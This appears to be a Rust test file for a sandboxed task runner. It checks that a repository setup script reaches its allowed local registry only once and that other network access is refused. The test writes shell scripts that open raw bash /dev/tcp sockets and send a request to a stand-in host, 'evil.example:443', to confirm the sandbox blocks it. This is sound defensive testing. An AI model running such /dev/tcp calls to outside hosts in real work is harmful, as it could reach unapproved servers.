//! What every run begins with: fetched once from a named registry, offline from then on, changed by no run.

use std::io::{Read, Write};
use std::net::TcpListener;
use std::sync::Arc;
use std::sync::atomic::{AtomicUsize, Ordering};

use ado_vault::domain::{Event, Status};
use ado_vault::note::PropertyValue;

use super::behaviour::*;

/// A registry on this machine that counts how often it was asked.
fn registry() -> (u16, Arc<AtomicUsize>) {
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    let asked = Arc::new(AtomicUsize::new(0));
    let count = asked.clone();
    std::thread::spawn(move || {
        for stream in listener.incoming() {
            let mut stream = stream.unwrap();
            let mut heard = [0; 4096];
            let _ = stream.read(&mut heard);
            count.fetch_add(1, Ordering::SeqCst);
            let _ = stream.write_all(b"HTTP/1.1 200 ok\r\nConnection: close\r\n\r\na package\n");
        }
    });
    (port, asked)
}

#[test]
fn setup_reaches_its_registry_once_and_every_run_begins_with_what_it_left() {
    let world = World::new(&Talk::greeting());
    let (port, asked) = registry();
    let ask = |host: &str| format!("printf 'GET http://{host}/x HTTP/1.1\\r\\n\\r\\n' >&3; cat <&3");
    let open = "exec 3<>/dev/tcp/127.0.0.1/3128";
    std::fs::write(
        world.target().join("setup.sh"),
        format!(
            "set -e\n{open}; mkdir target; {{ {}; }} > target/package\n{open}; {{ {}; }} > refused\n\
             touch ~/fetched\n",
            ask(&format!("127.0.0.1:{port}")),
            ask("evil.example:443"),
        ),
    )
    .unwrap();
    std::fs::write(
        world.target().join("check.sh"),
        format!(
            "set -e\ngrep 'a package' target/package\nls ~/fetched\n! bash -c '{open}'\n\
             [ ! -e target/mine ]\necho x > target/mine\necho x >> target/package\n"
        ),
    )
    .unwrap();
    commit_all(&world.target(), "setup");
    let note = "00_system/repos/target.md";
    world.set(note, "setup", PropertyValue::Text("bash setup.sh".into()));
    world.set(note, "setup_hosts", PropertyValue::List(vec![format!("127.0.0.1:{port}")]));
    for id in ["FR-001", "FR-002", "FR-003"] {
        world.request(Status::Planned, id);
    }
    world.work();
    for id in ["FR-001", "FR-002", "FR-003"] {
        assert_eq!(world.status(id), Status::Review, "{:?}\n{}", world.problems(), world.note(id));
    }
    assert_eq!(asked.load(Ordering::SeqCst), 1, "one setup for all runs");
    let all: Vec<Event> =
        ["FR-001/1", "FR-002/1", "FR-003/1"].iter().flat_map(|run| world.events(run)).collect();
    let refused: Vec<_> = all
        .iter()
        .filter_map(|event| match event {
            Event::NetworkRefused { by, host, port, .. } => Some(format!("{by} {host}:{port}")),
            _ => None,
        })
        .collect();
    assert_eq!(refused, ["setup evil.example:443"]);
}

#[test]
fn a_setup_that_fails_stops_the_run_and_is_named() {
    let world = World::new(&Talk::greeting());
    world.set(
        "00_system/repos/target.md",
        "setup",
        PropertyValue::Text("echo no registry >&2; exit 4".into()),
    );
    world.request(Status::Planned, "FR-001");
    world.work();
    assert_eq!(world.status("FR-001"), Status::InProgress);
    let why = world.waiting_on("FR-001");
    assert!(why.contains("step failed") && world.block("FR-001", "why").contains("setup"), "{why}");
}
